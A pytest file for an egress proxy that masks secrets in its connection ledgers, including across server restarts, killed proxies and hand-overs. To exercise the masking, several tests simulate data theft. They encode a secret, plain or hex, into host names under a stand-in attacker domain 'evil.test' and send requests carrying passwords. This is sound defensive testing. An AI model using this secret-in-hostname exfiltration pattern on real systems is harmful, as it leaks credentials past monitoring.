"""A secret that a program uses as a host name is in no ledger, also after a server or a proxy was killed."""

import asyncio
import os
import signal
from pathlib import Path

import pytest

from danube_pkg.adapters.egress import control
from danube_pkg.adapters.egress.ledgers import FileLedgers
from danube_pkg.adapters.egress.proxies import EgressProxyPool
from danube_pkg.core.egress.host_masks import host_forms
from danube_pkg.core.egress.ledger import MAX_REPEATS
from danube_pkg.core.egress.policy import EgressReason
from danube_pkg.core.errors import Permanent
from tests.adapters.egress.proxies import (
    SECONDS,
    Pod,
    ProxySetup,
    hand_over,
    open_proxies,
    proxy_settings,
)
from tests.adapters.egress.test_plain_http import Origin
from tests.adapters.egress.test_tunnels import Seen
from tests.core.egress.test_client_hello import real_hello

SECRET = "Correct-Horse_9"
LOWER = SECRET.lower()


def recorded(setup: ProxySetup, pod: Pod) -> str:
    """The ledger file in lower case."""
    return setup.ledgers.path(pod.job_id).read_text().lower()


async def test_a_name_is_masked_in_each_kind_of_request(setup: ProxySetup) -> None:
    seen = Seen()
    port = await setup.server(seen)
    setup.secrets.append(SECRET.encode())
    pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
    for name in (f"{SECRET}.evil.test", f"{LOWER}.evil.test", f"a.{SECRET.encode().hex()}.evil.test"):
        refused = await pod.connect(f"{name}:443")
        assert refused.status == 403
        assert "***.evil.test" in refused.head
        refused.close()
        assert b"***.evil.test" in await pod.send(
            f"GET http://{name}/{SECRET}?{SECRET} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
    tunnel = await pod.connect(f"files.test:{port}", real_hello(f"{LOWER}.evil.test"))
    await tunnel.read()
    tunnel.close()
    contacts = await setup.contacts(pod, 7)
    assert {one.host.removeprefix("a.") for one in contacts} == {"***.evil.test", "files.test"}
    assert contacts[-1].reason is EgressReason.SERVER_NAME_DIFFERS
    assert contacts[-1].server_name == "***.evil.test"
    assert contacts[0].allow == ("***.evil.test",)
    assert LOWER not in recorded(setup, pod)
    assert SECRET.encode().hex() not in recorded(setup, pod)


async def test_paths_queries_and_passwords_are_not_recorded(setup: ProxySetup) -> None:
    origin = Origin()
    port = await setup.server(origin)
    pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
    for place in (f"files.test:{port}", "evil.test", "user:some-password@evil.test"):
        await pod.send(
            f"GET http://{place}/some-path?some-query HTTP/1.1\r\nHost: h\r\nCookie: some-cookie\r\n"
            "Proxy-Authorization: Basic c29tZS1wYXNzd29yZA==\r\nConnection: close\r\n\r\n".encode()
        )
    assert [path for _, path, _, _ in origin.asked] == ["/some-path?some-query"]
    assert len(await setup.contacts(pod, 3)) == 3
    for word in ("some", "c29tZS1wYXNzd29yZA"):
        assert word.lower() not in recorded(setup, pod)


async def test_a_value_is_masked_from_the_new_masks_on(setup: ProxySetup) -> None:
    """Also in attempts that were only counted before."""
    pod = await setup.pod(step=2)
    setup.secrets.append(SECRET.encode())
    await setup.proxies.mask(pod.job_id)
    for _ in range(MAX_REPEATS + 2):
        (await pod.connect(f"{SECRET}.evil.test:443")).close()
    await setup.proxies.settle(pod.job_id, 2)
    contacts = await setup.contacts(pod, MAX_REPEATS + 1)
    assert {one.host for one in contacts} == {"***.evil.test"}
    await setup.proxies.mask("a-job-without-a-pod")


async def test_a_restarted_server_sends_masks_to_an_earlier_proxy(tmp_path: Path) -> None:
    async with open_proxies(tmp_path) as setup:
        pod = await setup.pod()
        await setup.proxies.served()
        await setup.proxies.close()
        setup.secrets.append(SECRET.encode())

        async def forms_of(job_id: str) -> set[str]:
            return host_forms(setup.secrets)

        restarted = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
        await restarted.mask(pod.job_id)
        (await pod.connect(f"{SECRET}.evil.test:443")).close()
        assert (await setup.contacts(pod))[0].host == "***.evil.test"
        await restarted.close()


async def test_the_proxy_after_a_killed_one_has_the_masks(tmp_path: Path) -> None:
    async with open_proxies(tmp_path) as setup:
        first = await setup.pod()
        assert (await first.connect("files.test:443")).status == 403
        setup.secrets.append(SECRET.encode())
        await setup.proxies.mask(first.job_id)
        (process,) = setup.processes()
        os.kill(process, signal.SIGKILL)
        await setup.proxies.mask(first.job_id)  # it has no proxy; the next one gets the masks with the pod
        async with asyncio.timeout(SECONDS):
            await setup.proxies.wait_lost()
        again = await hand_over(setup.proxies, setup.pods, [])
        assert setup.processes() != [process]
        (await again.connect(f"{SECRET}.evil.test:443")).close()
        assert (await setup.contacts(again))[0].host == "***.evil.test"


async def test_masks_that_are_sent_during_a_hand_over_are_kept(tmp_path: Path) -> None:
    """The hand-over has read older masks, and has not sent them yet."""
    async with open_proxies(tmp_path) as setup:
        asked: asyncio.Future[str] = asyncio.get_running_loop().create_future()
        resume = asyncio.Event()

        async def forms_of(job_id: str) -> set[str]:
            known = host_forms(setup.secrets)
            if not asked.done():
                asked.set_result(job_id)
                await resume.wait()
            return known

        proxies = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
        async with asyncio.timeout(SECONDS), asyncio.TaskGroup() as group:
            handing = group.create_task(hand_over(proxies, setup.pods, []), name="hand over")
            job_id = await asked
            setup.secrets.append(SECRET.encode())
            group.create_task(proxies.mask(job_id), name="mask")
            resume.set()
        pod = handing.result()
        (await pod.connect(f"{SECRET}.evil.test:443")).close()
        assert (await setup.contacts(pod))[0].host == "***.evil.test"
        await proxies.close()


def test_masks_that_are_too_large_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(control, "MAX_MASKS_BYTES", 100)
    with pytest.raises(Permanent, match="secrets of this job") as refused:
        control.masks_file(host_forms([b"x" * 60]))
    assert "danube secrets list" in refused.value.hint
